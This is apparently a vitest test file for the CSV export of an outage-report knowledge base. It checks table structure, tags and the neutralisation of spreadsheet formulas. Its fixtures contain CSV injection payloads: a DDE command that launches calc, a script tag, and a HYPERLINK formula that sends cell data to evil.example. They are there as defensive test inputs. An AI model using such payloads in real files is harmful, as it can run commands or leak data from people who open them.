import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvTableText } from '../../src/export/csv-table.js';
import { exportToDirectory } from '../../src/export/index.js';
import type { TableSpec } from '../../src/export/table-fields.js';
import { fixtureKnowledgeBase } from '../fixtures/export/fixture-knowledge-base.js';
import { amazonDocument, exportDocuments, exportIncidents, hostileDocument, s3Document } from '../fixtures/export/records.js';
import { exportBytes, neutralised, tempFolder } from './export-helpers.js';

type Row = Record<string, string>;
const readCsv = (text: string): Row[] => parse<Row>(text, { columns: true, bom: false, relax_quotes: false });
const sortedDocs = [...exportDocuments].sort((a, b) => (a.id < b.id ? -1 : 1));

describe('CSV documents table (single file)', () => {
  it('is RFC 4180 (CRLF records, header) and survives a round trip through csv-parse', async () => {
    const text = (await exportBytes(fixtureKnowledgeBase(), { format: 'csv' })).toString('utf8');
    expect(text.startsWith('id,incident,incident_date,title,url,site,published,event_date,event_date_precision,event_date_from,ingested,date_problems,author,description,providers,operator,mentioned_providers,affected_customers,services,layers,impacted_layers,causes,summary,trigger,detection_method,detected_at,mitigation,started_at,resolved_at,duration_minutes,time_to_detect_minutes,time_to_mitigate_minutes,action_item_count,keyphrases,tags,sources,source_paths,comment_count,token_count,text_sha256,text\r\n')).toBe(true);
    const rows = readCsv(text);
    expect(rows.map((r) => r.id)).toEqual(sortedDocs.map((d) => d.id));
    for (const [i, doc] of sortedDocs.entries()) {
      const row = rows[i]!;
      expect(row.text).toBe(neutralised(doc.text));
      expect(row.title).toBe(neutralised(doc.title ?? ''));
      expect(row.url).toBe(doc.url ?? '');
      expect(row.summary).toBe(neutralised(doc.summary.text));
      expect(row.sources).toBe(String(doc.sources.length));
      expect(row.token_count).toBe(String(doc.tokenCount));
      expect(row.incident_date).toBe(exportIncidents.find((inc) => inc.id === doc.incident)!.date ?? '');
      expect([row.event_date, row.event_date_precision, row.event_date_from, row.ingested, row.date_problems]).toEqual(
        doc.dates?.incident ? [doc.dates.incident.value, 'day', 'text', '2024-05-01', ''] : ['', '', '', '2024-05-01', ''],
      );
    }
  });

  it('keeps quotes, commas, CR/LF and Unicode intact', async () => {
    const rows = readCsv((await exportBytes(fixtureKnowledgeBase(), { format: 'csv' })).toString('utf8'));
    const hostile = rows.find((r) => r.id === hostileDocument.id)!;
    expect(hostile.text).toContain('\tThe operator wrote, "we\'re, like, looking into it"\r\nand nothing else 🙃.');
    expect(hostile.providers).toBe('Acme, Inc.');
    expect(hostile.operator).toBe('Acme, Inc.');
    expect(hostile.mentioned_providers).toBe('');
    const amazon = rows.find((r) => r.id === amazonDocument.id)!;
    expect(amazon.layers).toBe('load-balancer:speculated; cdn:speculated');
    expect(amazon.causes).toBe('misconfiguration:speculated');
    expect(amazon.source_paths).toBe('000_95e2d58907dc20d1.txt; 001_c4b483a6c527ed12.md');
  });

  it('writes origin layers in layers and impacted ones in impacted_layers', async () => {
    const rows = readCsv((await exportBytes(fixtureKnowledgeBase(), { format: 'csv' })).toString('utf8'));
    expect(rows.map((r) => [r.id, r.layers, r.impacted_layers])).toEqual([
      ['95e2d58907dc20d1', 'load-balancer:speculated; cdn:speculated', ''],
      ['c0ffee0123456789', 'storage:confirmed', 'compute:reported'],
      ['dead0000beef1111', 'database:reported', ''],
      ['f457170000000021', 'cdn:confirmed', ''],
    ]);
  });

  it('selects by impacted layers only with layerRole impacted or any', async () => {
    const ids = async (options: { layerRole?: 'origin' | 'impacted' | 'any' }) =>
      readCsv((await exportBytes(fixtureKnowledgeBase(), { format: 'csv', layers: ['compute'], ...options })).toString('utf8')).map((r) => r.id);
    expect(await ids({})).toEqual([]);
    expect(await ids({ layerRole: 'origin' })).toEqual([]);
    expect(await ids({ layerRole: 'impacted' })).toEqual([s3Document.id]);
    expect(await ids({ layerRole: 'any' })).toEqual([s3Document.id]);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const rows = readCsv((await exportBytes(fixtureKnowledgeBase(), { format: 'csv' })).toString('utf8'));
    const hostile = rows.find((r) => r.id === hostileDocument.id)!;
    expect(hostile.title).toBe('\'=cmd|\' /C calc\'!A0 <script>alert("x")</script>');
    expect(hostile.summary).toBe("'@everyone: the database failover never happened.");
    expect(hostile.text?.startsWith("'+1 for transparency")).toBe(true);
  });

  it('drops the text column with noText and keeps summaries and links', async () => {
    const rows = readCsv((await exportBytes(fixtureKnowledgeBase(), { format: 'csv', noText: true })).toString('utf8'));
    expect(Object.keys(rows[0]!)).not.toContain('text');
    expect(rows.find((r) => r.id === amazonDocument.id)).toMatchObject({ summary: amazonDocument.summary.text, url: amazonDocument.url });
  });
});

describe('CSV formula neutralisation', () => {
  const table: TableSpec<{ s: string | null; n: number | null; b: boolean }> = {
    name: 'documents',
    description: 'test',
    primaryKey: ['s'],
    fields: [
      { name: 's', type: 'string', description: 's', value: (r) => r.s },
      { name: 'n', type: 'number', description: 'n', value: (r) => r.n },
      { name: 'b', type: 'boolean', description: 'b', value: (r) => r.b },
    ],
  };

  it('prefixes =, +, -, @, tab and CR cells with a quote and leaves numbers and other text alone', () => {
    const inputs = ['=1+2', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', "'quoted", ' =spaced', ''];
    const text = csvTableText(table, inputs.map((s, i) => ({ s, n: -i - 0.5, b: i % 2 === 0 })), false);
    const rows = readCsv(text);
    expect(rows.map((r) => r.s)).toEqual(["'=1+2", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", 'plain', "'quoted", ' =spaced', '']);
    expect(rows.map((r) => r.n)).toEqual(inputs.map((_, i) => String(-i - 0.5)));
    expect(rows.map((r) => r.b)).toEqual(inputs.map((_, i) => (i % 2 === 0 ? 'true' : 'false')));
    expect(readCsv(csvTableText(table, [{ s: null, n: null, b: false }], false))).toEqual([{ s: '', n: '', b: 'false' }]);
  });
});

describe('CSV folder export', () => {
  it('writes documents, tags, comments and incidents tables plus datapackage.json', async () => {
    const dir = await tempFolder();
    const result = await exportToDirectory(fixtureKnowledgeBase(), { format: 'csv' }, dir, { created: '2024-06-01T00:00:00.000Z' });
    expect((await readdir(dir)).sort()).toEqual(['action_items.csv', 'comments.csv', 'datapackage.json', 'documents.csv', 'incidents.csv', 'tags.csv', 'timeline.csv']);
    expect(result.files.map((f) => [f.path, f.records])).toEqual([
      ['documents.csv', 4],
      ['tags.csv', 12],
      ['comments.csv', 2],
      ['incidents.csv', 4],
      ['timeline.csv', 1],
      ['action_items.csv', 1],
    ]);
    expect(readCsv(await readFile(join(dir, 'timeline.csv'), 'utf8'))).toEqual([
      {
        document: '95e2d58907dc20d1',
        index: '0',
        event: 'start',
        at: '2008-06-06T18:25:00Z',
        written: '10:25 AM PST',
        evidence: "Amazon.com's U.S. retail site became unavailable around 10:25 AM PST, and now appears to be back up.",
        evidence_offsets: '0-100',
      },
    ]);
    expect(readCsv(await readFile(join(dir, 'action_items.csv'), 'utf8')).map((r) => [r.document, r.kind])).toEqual([['c0ffee0123456789', 'process']]);
    expect(result.dataPackage.resources.find((r) => r.name === 'timeline')?.schema.foreignKeys).toEqual([{ fields: ['document'], reference: { resource: 'documents', fields: ['id'] } }]);

    const tags = readCsv(await readFile(join(dir, 'tags.csv'), 'utf8'));
    expect(tags).toHaveLength(12);
    expect(Object.keys(tags[0]!)).toEqual([
      'document',
      'comment_id',
      'in_comment',
      'axis',
      'label',
      'role',
      'certainty',
      'confidence',
      'rules',
      'evidence_count',
      'evidence_role',
      'evidence',
      'evidence_offsets',
    ]);
    const expectedTags = sortedDocs.flatMap((doc) => [
      ...doc.layers.map((t) => ({ document: doc.id, comment_id: '', axis: 'layer', t })),
      ...doc.causes.map((t) => ({ document: doc.id, comment_id: '', axis: 'cause', t })),
      ...doc.comments.flatMap((c) => c.layers.map((t) => ({ document: doc.id, comment_id: c.id, axis: 'layer', t }))),
    ]);
    expect(tags.map((r) => [r.document, r.comment_id, r.in_comment, r.axis, r.label, r.role, r.certainty, Number(r.confidence), Number(r.evidence_count)])).toEqual(
      expectedTags.map((e) => [e.document, e.comment_id, e.comment_id === '' ? 'false' : 'true', e.axis, e.t.label, e.t.role, e.t.certainty, e.t.confidence, e.t.evidence.length]),
    );
    // Roles, the first evidence sentence's role and the rule ids, exactly.
    expect(tags.filter((r) => r.document === s3Document.id).map((r) => [r.axis, r.label, r.role, r.evidence_role, r.rules])).toEqual([
      ['layer', 'storage', 'origin', 'trigger', 'layer.storage.cue role.trigger'],
      ['layer', 'compute', 'impacted', 'root-cause', 'layer.compute.cue role.root-cause'],
      ['cause', 'human-error', 'root', 'root-cause', 'cause.human-error.cue role.root-cause'],
    ]);
    expect(tags.filter((r) => r.document === 'f457170000000021' && r.axis === 'cause').map((r) => [r.label, r.role, r.evidence_role])).toEqual([
      ['software-bug', 'root', 'root-cause'],
      ['deployment', 'trigger', 'root-cause'],
    ]);
    const hostileUnknown = tags.find((r) => r.document === hostileDocument.id && r.label === 'unknown')!;
    expect([hostileUnknown.evidence_count, hostileUnknown.evidence_role, hostileUnknown.rules]).toEqual(['0', '', 'cause.unknown.cue']);
    expect(tags.find((r) => r.comment_id !== '')).toMatchObject({ role: 'origin', evidence_role: 'other', rules: 'layer.load-balancer.cue role.other' });
    const fastlyCdn = tags.find((r) => r.document === 'f457170000000021' && r.label === 'cdn')!;
    const cdnTag = exportDocuments.find((d) => d.id === 'f457170000000021')!.layers[0]!;
    expect(fastlyCdn.evidence).toBe(cdnTag.evidence.map((e) => e.text).join('\n'));
    expect(fastlyCdn.evidence_offsets).toBe(cdnTag.evidence.map((e) => `${e.start}-${e.end}`).join('; '));

    const comments = readCsv(await readFile(join(dir, 'comments.csv'), 'utf8'));
    expect(comments).toEqual(
      amazonDocument.comments.map((c) => ({
        id: c.id,
        document: amazonDocument.id,
        author: c.author ?? '',
        published: c.published ?? '',
        url: c.url ?? '',
        layers: c.layers.map((t) => `${t.label}:${t.certainty}`).join('; '),
        impacted_layers: '',
        causes: '',
        text: neutralised(c.text),
      })),
    );
    expect(comments[0]!.text).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(comments[1]!.text).toBe('\'-2+3 servers, I bet the load balancer\'s health check failed.\nSecond line, with "quotes".');

    const incidents = readCsv(await readFile(join(dir, 'incidents.csv'), 'utf8'));
    expect(incidents.map((r) => r.id)).toEqual(exportIncidents.map((i) => i.id).sort());
    const s3 = incidents.find((r) => r.id === '2017-02-28-amazon-web-services-s3')!;
    expect(s3).toEqual({
      id: '2017-02-28-amazon-web-services-s3',
      title: 'Summary of the Amazon S3 Service Disruption',
      date: '2017-02-28',
      providers: 'Amazon Web Services',
      operator: 'Amazon Web Services',
      mentioned_providers: '',
      affected_customers: '',
      services: 'S3',
      layers: 'storage:confirmed',
      impacted_layers: 'compute:reported',
      causes: 'human-error:confirmed',
      report_count: '1',
      primary_report: 'c0ffee0123456789',
      reports: 'c0ffee0123456789',
      summary: exportIncidents.find((i) => i.id === s3.id)!.summary,
      trigger: 'operator-action',
      detection_method: 'not-stated',
      detected_at: '',
      mitigation: '',
      started_at: '',
      resolved_at: '',
      duration_minutes: '',
      time_to_detect_minutes: '',
      time_to_mitigate_minutes: '',
      action_item_count: '1',
    });
  });

  it('leaves comment texts out of comments.csv with noText but keeps tag evidence', async () => {
    const dir = await tempFolder();
    await exportToDirectory(fixtureKnowledgeBase(), { format: 'csv', noText: true }, dir);
    const comments = readCsv(await readFile(join(dir, 'comments.csv'), 'utf8'));
    expect(Object.keys(comments[0]!)).toEqual(['id', 'document', 'author', 'published', 'url', 'layers', 'impacted_layers', 'causes']);
    const tags = readCsv(await readFile(join(dir, 'tags.csv'), 'utf8'));
    expect(tags.find((r) => r.comment_id !== '')!.evidence).toBe("the load balancer's health check failed");
  });
});
